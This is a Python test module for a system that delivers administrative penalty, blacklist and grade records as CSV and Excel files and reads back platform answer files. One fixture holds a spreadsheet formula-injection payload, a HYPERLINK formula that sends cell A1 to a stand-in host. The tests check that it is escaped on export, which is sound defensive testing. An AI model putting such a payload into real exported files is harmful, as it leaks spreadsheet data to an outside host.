"""Feeds that are delivered as files: what lies in the folder, whatever happens on the way; single and on servers."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from contextlib import closing
from dataclasses import replace
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook

from credit.identity import MASKED
from credit.record.rows import FeedRow
from credit.store import carried, outbox
from credit.store.carried import LotState
from credit.store.engine import reading, writing
from credit.store.queries.files import find_files, find_places
from credit.store.queries.page import Part
from credit.telling import messages
from credit.telling.feeds import Shown
from schemas.errors import TransientError
from schemas.reasons import HINTS, Reason
from schemas.routing import FolderPlan
from schemas.states import FeedKind, Operation, RowState
from tests.builders import NOON, TODAY, WANG, feed_in, message, rows
from workers import drain
from workers.answers import Answers
from workers.delivery import STAGED, Folder, make_carrier
from workers.files import taking
from workers.lots import LOT, CarriedRow
from workers.postings import Posting
from workers.runtime import Runtime, open_runtime
from workers.settings import Settings

pytestmark = pytest.mark.long

SHIPPED = Path(__file__).parents[2] / "routing.yaml"
PERSON = {
    "CF_XDR_MC": "样本人员",
    "CF_XDR_LB": "自然人",
    "CF_XDR_SHXYM": "",
    "CF_FRDB": "",
    "CF_XDR_ZJLX": "身份证",
    "CF_XDR_ZJHM": WANG,
}
HOSTILE = '=HYPERLINK("http://x/?"&A1)'


def routing(folder: Path, generation: str = "V2019", form: str = "csv") -> str:
    plan = f"    deliver: {{folder: {{path: {folder}, format: {form}}}}}\n"
    text = SHIPPED.read_text().replace(
        "    generation: V2019\n    kinds: [permit, penalty]\n",
        f"    generation: {generation}\n    kinds: [permit, penalty]\n{plan}",
    )
    assert plan in text
    return text


@pytest.fixture
def out(tmp_path: Path) -> Path:
    folder = tmp_path / "out"
    folder.mkdir()
    return folder


@pytest.fixture
def runtime(place: Settings, out: Path, tmp_path: Path) -> Iterator[Runtime]:
    (tmp_path / "routing.yaml").write_text(routing(out))
    with open_runtime(replace(place, routing=tmp_path / "routing.yaml"), lambda: NOON) as opened:
        yield opened


def carry(runtime: Runtime) -> int:
    carrier = make_carrier(runtime)
    try:
        return carrier.step(0.2)
    finally:
        carrier.close()


def penalty(message_id: str, number: int, revision: int = 1, /, **items: str) -> Posting:
    return message("penalty", message_id, {"revision": revision}, CF_WSH=f"舞卫公罚〔2026〕{number}号", **items)


def lines(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def names(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir() if path.name != STAGED)


def test_rows_lie_in_files_by_operation_and_a_withdrawal_names_what_was_delivered(runtime: Runtime, out: Path) -> None:
    feed_in(runtime, penalty("1", 1), penalty("2", 2, CF_SY=HOSTILE))
    assert carry(runtime) == 2
    (name,) = names(out)
    assert name == "credit-china.penalty-v2019.publish.20260601.0001.csv"
    first, second = sorted(lines(out / name), key=lambda row: row["行政处罚决定书文号"])
    assert first["行政处罚决定书文号"] == "舞卫公罚〔2026〕1号"
    assert first["罚款金额（万元）"] == "0.200000"
    assert second["违法事实"] == f"'{HOSTILE}"

    withdraw = message(
        "office.withdrawal",
        "w",
        target={
            "family": "credit.inspection.penalty",
            "organ_code": "11410481983690064T",
            "document_no": "舞卫公罚〔2026〕1号",
        },
    )
    feed_in(runtime, withdraw, penalty("3", 2, 2, CF_NR="警告，罚款人民币2000元整"))
    assert carry(runtime) == 2
    assert [name.split(".")[2:4] for name in names(out)[1:]] == [["update", "20260601"], ["withdraw", "20260601"]]
    (gone,) = lines(next(out.glob("*withdraw*")))
    assert gone["行政处罚决定书文号"] == "舞卫公罚〔2026〕1号"
    assert gone["违法事实"] == ""  # what is withdrawn, for whatever reason, is not told once more
    assert carry(runtime) == 0


def test_a_row_that_would_not_be_found_by_its_new_name_is_withdrawn_and_published(runtime: Runtime, out: Path) -> None:
    feed_in(runtime, penalty("1", 1, CF_XDR_MC="甲店"), penalty("2", 2))
    carry(runtime)
    feed_in(runtime, penalty("1b", 1, 2, CF_XDR_MC="乙店"), penalty("2b", 2, 2, CF_NR="警告，罚款人民币2000元整"))
    assert carry(runtime) == 2
    first, *later = sorted(names(out), key=lambda name: name.split(".")[4])
    found = [
        (name.split(".")[2], row["行政相对人名称"], row["违法事实"] != "")
        for name in later
        for row in lines(out / name)
    ]
    assert len(lines(out / first)) == 2
    assert found[0] == ("withdraw", "甲店", False)
    assert sorted(found[1:]) == [("publish", "乙店", True), ("update", "舞钢市样本美发店", True)]
    assert carry(runtime) == 0


def test_one_who_turns_out_to_be_a_person_is_withdrawn_among_organisations(
    place: Settings, out: Path, tmp_path: Path
) -> None:
    (tmp_path / "routing.yaml").write_text(routing(out, "V2018"))
    with open_runtime(replace(place, routing=tmp_path / "routing.yaml"), lambda: NOON) as runtime:
        number = "舞卫公罚〔2026〕1号"
        for version, template, operation, name in (
            (1, "organisation", "publish", "样本店"),
            (2, "person", "update", "样本店"),
        ):
            tell(runtime, version, operation, {"CF_XDR_MC": name, "CF_WSH": number} | ONLY_OF[template])
            assert carry(runtime) == 1
    assert [name.split(".")[1:3] for name in names(out)] == [
        ["penalty-v2018-organisation", "publish"],
        ["penalty-v2018-organisation", "withdraw"],
        ["penalty-v2018-person", "publish"],
    ]


ONLY_OF = {"organisation": {"CF_XDR_SHXYM": "92410481MA9TK8C741"}, "person": {"CF_XDR_ZJLX": "身份证"}}


def tell(runtime: Runtime, version: int, operation: str, items: dict[str, str]) -> None:
    """Let the feed be told of a row, as it is from the archive."""
    feed = runtime.reader.routes.feeds[0]
    row = FeedRow("r", feed.code, "x", "penalty", version, operation, b"", TODAY, TODAY, NOON)
    with writing(runtime.engine) as connection:
        outbox.enqueue(connection, [messages.feed_rows(row, Shown(items, b""), feed, runtime.rules())])
    runtime.broker.declare(runtime.reader.routes.topology)
    drain.empty_outbox(runtime)


def test_persons_and_organisations_apart_where_the_generation_wants_it(
    place: Settings, out: Path, tmp_path: Path
) -> None:
    (tmp_path / "routing.yaml").write_text(routing(out, "V2018", "xlsx"))
    with open_runtime(replace(place, routing=tmp_path / "routing.yaml"), lambda: NOON) as runtime:
        feed_in(runtime, penalty("1", 1), penalty("2", 2, **PERSON))
        assert carry(runtime) == 2
    assert [name.split(".")[1] for name in names(out)] == ["penalty-v2018-organisation", "penalty-v2018-person"]
    sheet = CalamineWorkbook.from_path(str(out / names(out)[1])).get_sheet_by_index(0)
    said = {str(cell) for row in sheet.to_python() for cell in row}
    assert "110105********002X" in said
    assert not any(WANG in text for text in said)


@pytest.fixture
def site(place: Settings, out: Path, tmp_path: Path) -> Iterator[Runtime]:
    """A feed of lists, grades and key inspections to a folder."""
    plan = f"""feeds:
  site:
    name: 卫生监督信息网
    generation: V2016
    kinds: [list, grade, check]
    lists: [wugang/black]
    grades: [wugang/rating]
    checks: {{schemes: [key], source: {{document: 试验办法, clause: 第一条}}, confidence: low}}
    senders: ["11410481983690064T"]
    deliver: {{folder: {{path: {out}, format: csv}}}}
"""
    (tmp_path / "routing.yaml").write_text(SHIPPED.read_text().replace("feeds:\n", plan, 1))
    with open_runtime(replace(place, routing=tmp_path / "routing.yaml"), lambda: NOON) as opened:
        yield opened


def test_an_inspection_lies_in_a_table_of_our_own(site: Runtime, out: Path) -> None:
    feed_in(site, message("inspection.check", "c", scheme="key"))
    assert carry(site) == 1
    (name,) = names(out)
    assert name.startswith("site.credit.inspection.check.v1.publish.")
    (row,) = lines(out / name)
    assert [row[title] for title in ("检查方式", "检查结果")] == ["重点检查", "当场改正"]


def test_lists_and_grades_lie_in_the_tables_of_their_generation(site: Runtime, out: Path) -> None:
    party = {"TYSHXYDM": "12410481417200000A", "JGQC": "舞钢市样本医院"}
    recognised = {"RDWH": "舞信名〔2026〕1号", "RDDW": "舞钢市卫生健康委员会"}
    blame = party | recognised | {"ZYSXSS": "年度评定为差", "QRYZSXSJ": "2026/01/20"}
    grade = party | {"PDJG": "A级", "PDRQ": "2026/01/20", "PDMC": "2025年度", "PDJGMC": "舞钢市卫生健康委员会"}
    rules, feed = site.rules(), next(each for each in site.reader.routes.feeds if each.code == "site")
    told = [
        messages.feed_rows(
            FeedRow(f"site:{kind}", "site", f"{kind}:x", kind, version, operation, b"", TODAY, TODAY, NOON),
            Shown(items, b"") if items else None,
            feed,
            rules,
        )
        for kind, version, operation, items in (
            ("list", 1, "publish", blame),
            ("grade", 1, "publish", grade),
            ("list", 2, "withdraw", {}),
        )
    ]
    site.broker.declare(site.reader.routes.topology)
    with writing(site.engine) as connection:
        outbox.enqueue(connection, told)
    drain.empty_outbox(site)
    assert carry(site) == 3
    by_table = {tuple(name.split(".")[1:3]): lines(out / name) for name in names(out)}
    assert by_table.keys() == {
        ("black-v2016-organisation", "publish"),
        ("grade-v2016", "publish"),
        ("black-v2016-organisation", "withdraw"),
    }
    (gone,) = by_table["black-v2016-organisation", "withdraw"]
    # Of two lists of one organ it tells which.
    assert {text for text in gone.values() if text} == {*party.values(), *recognised.values()}


def test_what_is_held_is_in_no_file(runtime: Runtime, out: Path) -> None:
    feed_in(runtime, penalty("1", 1, BZ="长" * 513))
    assert carry(runtime) == 0
    assert names(out) == []
    assert rows(runtime, "SELECT version, held FROM feed_row") == [(0, '["too_long:BZ"]')]


def test_a_folder_that_is_away_is_waited_for(runtime: Runtime, out: Path) -> None:
    feed_in(runtime, penalty("1", 1))
    out.rmdir()
    with pytest.raises(TransientError, match="cannot be delivered"):
        carry(runtime)
    assert not out.exists()  # a share that is away is not made anew on the disk below it
    out.mkdir()
    assert carry(runtime) == 1
    assert len(names(out)) == 1


class TestAnswers:
    """What a platform answers by files, as the carrier of its feed finds them."""

    @pytest.fixture
    def answers(self, runtime: Runtime, tmp_path: Path) -> Iterator[Answers]:
        folder = tmp_path / "answers"
        folder.mkdir()
        feed_in(runtime, penalty("1", 1), penalty("2", 2))
        with closing(Answers("credit-china", folder, runtime, "11410481685969382K")) as answers:
            yield answers

    def take(self, answers: Answers, text: str, name: str = "反馈.csv") -> Path:
        """Lay a file there, and return its verdict, or why nothing of it was taken."""
        (answers.place / name).write_text(text, encoding="utf-8-sig")
        assert answers.step(0) == 0  # it may still be growing
        answers.step(3)
        feed_in(answers.opened)
        assert answers.step(6) == 0
        found = [*answers.place.glob("done/*.办理结果.csv"), *answers.place.glob("refused/*.txt")]
        return max(found, key=lambda path: path.stat().st_mtime_ns)

    def codes(self, runtime: Runtime) -> dict[str, object]:
        statement = "SELECT r.document_no, f.result_code FROM feed_row f JOIN record r USING (record_id)"
        return {str(number)[-2]: code for number, code in rows(runtime, statement)}

    def test_close_rows_by_the_number_of_the_document(self, runtime: Runtime, answers: Answers) -> None:
        text = (
            "行政处罚决定书文号,反馈结果,错误信息\n舞卫公罚[2026]1号,成功,\n舞卫公罚〔2026〕2号,E003,代码校验不通过\n"
        )
        verdict = self.take(answers, text)
        assert [row["办理结果"] for row in lines(verdict)] == ["已受理", "已受理"]
        assert self.codes(runtime) == {"1": "0000", "2": "E003"}

    def test_an_answer_leads_back_to_file_sheet_and_row(self, runtime: Runtime, answers: Answers) -> None:
        self.take(answers, "文号,结果\n\n舞卫公罚〔2026〕2号,E003\n")
        ((key,),) = rows(runtime, "SELECT answered_by FROM feed_row WHERE result_code IS NOT NULL")
        with reading(runtime.engine) as connection:
            place = find_places(connection, [str(key)], MASKED)[str(key)]
            (handed,) = find_files(connection, runtime.view(MASKED), Part(limit=9))
        assert (place.name, place.sheet, place.row, place.columns["code"]) == ("反馈.csv", "反馈", 3, "B")
        assert (handed.row.name, handed.counts[RowState.APPLIED]) == ("反馈.csv", 1)

    def test_each_row_that_closes_nothing_says_why(self, runtime: Runtime, answers: Answers) -> None:
        text = "文号,结果\n=1+1,0000\n舞卫公罚〔2026〕9号,0000\n舞卫公罚〔2026〕2号,\n舞卫公罚〔2026〕2号,0\n"
        verdict = self.take(answers, text + "舞卫公罚〔2026〕1号,0000\n")
        assert self.codes(runtime) == {"1": "0000", "2": None}
        said = [(row["办理结果"], row["说明"]) for row in lines(verdict)]
        unknown = HINTS[Reason.FEED_NUMBER_UNKNOWN]
        assert said[:3] == [
            ("未受理", f"A2（文书号）：{unknown}"),
            ("未受理", f"A3（文书号）：{unknown}"),
            ("未受理", f"B4（结果代码）未填：{HINTS[Reason.ITEM_MISSING]}"),
        ]
        assert said[3][0] == "未读入"
        assert said[3][1].startswith("B5（结果代码）：“0”不是结果代码")
        assert said[4] == ("已受理", "")

    def test_a_file_that_nobody_can_read_is_put_away_with_its_reason(self, runtime: Runtime, answers: Answers) -> None:
        said = self.take(answers, "<html>登录超时</html>", "反馈.xlsx").read_text(encoding="utf-8-sig")
        assert "未接收" in said
        assert set(self.codes(runtime).values()) == {None}

    def test_a_file_of_whole_rows_with_their_results_is_one_of_answers(
        self, runtime: Runtime, answers: Answers
    ) -> None:
        head = "行政相对人名称,行政处罚决定书文号,违法事实,处罚决定日期,反馈结果"
        self.take(answers, f"{head}\n某店,舞卫公罚〔2026〕1号,事实,2026/04/13,成功\n")
        assert self.codes(runtime) == {"1": "0000", "2": None}

    def test_of_two_files_the_later_answer_holds_whichever_comes_first(
        self, runtime: Runtime, answers: Answers
    ) -> None:
        self.take(answers, "文号,结果,反馈时间\n舞卫公罚〔2026〕1号,E003,2026-06-01 12:00\n", "后.csv")
        verdict = self.take(answers, "文号,结果,反馈时间\n舞卫公罚〔2026〕1号,0000,2026-06-01 11:59\n", "先.csv")
        assert self.codes(runtime) == {"1": "E003", "2": None}
        assert [row["办理结果"] for row in lines(verdict)] == ["已有新版"]

    def test_the_same_answer_about_a_row_that_was_sent_again_needs_its_time(
        self, runtime: Runtime, answers: Answers
    ) -> None:
        self.take(answers, "文号,结果\n舞卫公罚〔2026〕1号,0000\n", "一.csv")
        feed_in(runtime, penalty("1b", 1, 2, CF_NR_FK="0.300000"))
        assert self.codes(runtime) == {"1": None, "2": None}
        # It may be the former answer, listed once more: it does not say that the platform has the correction.
        (said,) = lines(self.take(answers, "序号,文号,结果\n1,舞卫公罚〔2026〕1号,0000\n", "二.csv"))
        assert said["办理结果"] == "重复"
        assert "此后另有答复的，请填答复的时间" in said["说明"]
        assert self.codes(runtime) == {"1": None, "2": None}
        self.take(answers, "文号,结果,反馈时间\n舞卫公罚〔2026〕1号,0000,2026-06-01 12:00\n", "三.csv")
        assert self.codes(runtime) == {"1": "0000", "2": None}

    def test_a_verdict_handed_in_again_changes_what_was_mended_alone(self, runtime: Runtime, answers: Answers) -> None:
        verdict = self.take(answers, "文号,结果\n舞卫公罚〔2026〕1号,0000\n舞卫公罚〔2026〕9号,0000\n")
        mended = verdict.read_text(encoding="utf-8-sig").replace("9号,", "2号,")
        again = self.take(answers, mended, verdict.name)
        assert [row["办理结果"] for row in lines(again)] == ["重复", "已受理"]
        assert self.codes(runtime) == {"1": "0000", "2": "0000"}
        assert rows(runtime, "SELECT count(*) FROM parked WHERE closed_as IS NULL") == [(0,)]

    def test_a_folder_that_is_away_is_waited_for(self, runtime: Runtime, tmp_path: Path) -> None:
        away = Answers("credit-china", tmp_path / "away", runtime, "11410481685969382K")
        with pytest.raises(TransientError, match="answers of credit-china"):
            away.step(0)
        (tmp_path / "away").mkdir()
        assert away.step(3) == 0

    def test_who_answers_for_one_platform_hands_a_file_in_as_any_other(
        self, runtime: Runtime, answers: Answers
    ) -> None:
        path = answers.place.parent / "答复.csv"
        path.write_text("文号,结果\n舞卫公罚〔2026〕1号,成功\n", encoding="utf-8")
        with closing(taking.take(runtime, path, taking.Who("11410481685969382K", "张科员"))) as taken:
            taking.publish(runtime, taken)
        feed_in(runtime)
        assert self.codes(runtime) == {"1": "0000", "2": None}
        with closing(taking.take(runtime, path, taking.Who("11410481983690064T", "张科员"))) as taken:
            (refused,) = rows(runtime, "SELECT refused_rows, sent FROM file WHERE sender = '11410481983690064T'")
        assert refused == (1, 0)  # whoever does not say for which platform it answers, states nothing


class TestKilled:
    """Each point at which a carrier can be killed, as the next one finds it: the rows come again from the broker."""

    @pytest.fixture
    def folder(self, runtime: Runtime, out: Path) -> Folder:
        templates = runtime.reader.registry.templates()
        return Folder("credit-china", FolderPlan(path=str(out), format="csv"), runtime.engine, runtime.rules, templates)

    def row(self, name: str, version: int = 1) -> CarriedRow:
        return CarriedRow(
            message_id=f"{name}:{version}",
            row_id=name,
            version=version,
            feed="credit-china",
            generation="V2019",
            kind=FeedKind.PENALTY,
            template="penalty-v2019",
            parties=None,
            operation=Operation.PUBLISH,
            items={"CF_WSH": name},
            at=NOON,
        )

    def plan(self, folder: Folder, *rows: CarriedRow) -> str:
        with writing(folder.engine) as connection:
            kept = [row.keep(NOON) for row in rows]
            lot = carried.plan(connection, folder.feed, "penalty-v2019", Operation.PUBLISH, kept, folder.rules().at)
        assert lot is not None
        return lot.lot

    def found(self, out: Path) -> dict[str, list[str]]:
        return {name: [row["行政处罚决定书文号"] for row in lines(out / name)] for name in names(out)}

    def test_between_taking_away_and_publishing_anew(self, folder: Folder, runtime: Runtime, out: Path) -> None:
        feed_in(runtime, penalty("1", 1, CF_XDR_MC="甲店"))
        carry(runtime)
        [(row_id,)] = rows(runtime, "SELECT row_id FROM feed_row")
        gone = replace(self.row(str(row_id)), operation=Operation.WITHDRAW, items={"CF_XDR_MC": "甲店"})
        folder.retract([gone])
        folder.retract([gone])
        feed_in(runtime, penalty("1b", 1, 2, CF_XDR_MC="乙店"))
        assert carry(runtime) == 1
        found = [(name.split(".")[2], row["行政相对人名称"]) for name in names(out) for row in lines(out / name)]
        assert sorted(found) == [("publish", "乙店"), ("publish", "甲店"), ("withdraw", "甲店")]

    def test_after_planning(self, folder: Folder, out: Path) -> None:
        name = self.plan(folder, self.row("a"), self.row("b"))
        folder.deliver([self.row("a"), self.row("b"), self.row("c")])
        assert self.found(out) == {
            f"{name}.csv": ["a", "b"],
            "credit-china.penalty-v2019.publish.20260601.0002.csv": ["c"],
        }

    def test_while_writing(self, folder: Folder, out: Path) -> None:
        name = self.plan(folder, self.row("a"))
        (out / STAGED).mkdir()
        (out / STAGED / f"99.{name}.csv").write_text("hal")
        (out / STAGED / f"{name}.csv").write_text("moved, and not committed")
        folder.deliver([self.row("a")])
        assert self.found(out) == {f"{name}.csv": ["a"]}

    def test_after_writing(self, folder: Folder, out: Path) -> None:
        name = self.plan(folder, self.row("a"))
        (out / STAGED).mkdir()
        (out / STAGED / f"{name}.csv").write_text("行政处罚决定书文号\r\na\r\n", encoding="utf-8-sig")
        self.advance(folder, name)
        folder.deliver([self.row("a")])
        assert self.found(out) == {f"{name}.csv": ["a"]}

    def test_after_moving_and_when_the_platform_has_taken_the_file_already(self, folder: Folder, out: Path) -> None:
        name = self.plan(folder, self.row("a"))
        self.advance(folder, name)
        folder.deliver([self.row("a")])
        assert self.found(out) == {}
        folder.deliver([self.row("a"), self.row("b")])
        assert self.found(out) == {"credit-china.penalty-v2019.publish.20260601.0002.csv": ["b"]}

    def test_before_acknowledging(self, folder: Folder, out: Path) -> None:
        for _ in range(3):
            folder.deliver([self.row("a")])
        assert list(self.found(out).values()) == [["a"]]

    def test_a_later_version_is_delivered_and_an_older_one_is_not(self, folder: Folder, out: Path) -> None:
        folder.deliver([self.row("a", 2)])
        folder.deliver([self.row("a", 1)])
        folder.deliver([self.row("a", 3)])
        assert len(names(out)) == 2

    def advance(self, folder: Folder, name: str) -> None:
        with writing(folder.engine) as connection:
            assert carried.advance(connection, name, LotState.PLANNED, LotState.WRITTEN, NOON)


def test_a_lot_has_two_hundred_rows() -> None:
    assert LOT == 200
